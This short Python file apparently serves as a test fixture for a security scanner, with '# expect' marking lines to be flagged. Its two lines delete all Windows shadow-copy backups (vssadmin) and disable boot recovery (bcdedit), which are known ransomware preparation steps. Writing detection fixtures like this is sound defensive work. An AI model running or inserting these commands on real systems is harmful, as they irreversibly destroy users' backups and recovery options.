import os
import subprocess

os.system("vssadmin delete shadows /all /quiet")  # expect
subprocess.run(["bcdedit", "/set", "{default}", "recoveryenabled", "No"])  # expect
